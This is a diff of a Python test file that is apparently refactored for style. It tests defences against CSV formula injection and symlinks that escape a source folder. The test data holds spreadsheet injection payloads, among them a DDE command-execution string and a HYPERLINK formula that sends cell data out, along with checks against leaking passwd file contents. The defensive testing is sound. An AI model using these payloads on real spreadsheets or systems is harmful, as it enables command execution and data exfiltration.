@@ -8,16 +8,15 @@ import io
 import json
 from pathlib import Path
 
-import pytest
+from conftest import TODAY
 from hypothesis import given
 from hypothesis import strategies as st
 
 from mentorbook.base.tabular import FORMULA_STARTS, csv_text
 from mentorbook.staff.report_build import write_report
 
-from conftest import TODAY
-
-FORMULAS = ['=HYPERLINK("http://example.com/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "=cmd|' /C calc'!A0"]
+FORMULAS = ['=HYPERLINK("http://example.com/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx",
+            "=cmd|' /C calc'!A0"]
 
 
 def workbook(folder: Path, name: str, role: str = "Resident", file: str | None = None) -> Path:
@@ -46,7 +45,8 @@ def test_a_symlink_leading_out_of_a_source_folder_is_never_read(tmp_path):
     assert set(found) == {"ana.yml", "passwd.yml", "secret.yml"}
     for name in ("passwd.yml", "secret.yml"):
         assert found[name]["status"] == "needs fixing"
-        assert "resolves outside" in found[name]["errors"] and "a symlink leading out is not followed" in found[name]["errors"]
+        errors = found[name]["errors"]
+        assert "resolves outside" in errors and "a symlink leading out is not followed" in errors
     for text in ((out / "report.csv").read_text(encoding="utf-8"), (out / "report.html").read_text(encoding="utf-8")):
         assert "root:x:0:0" not in text
 
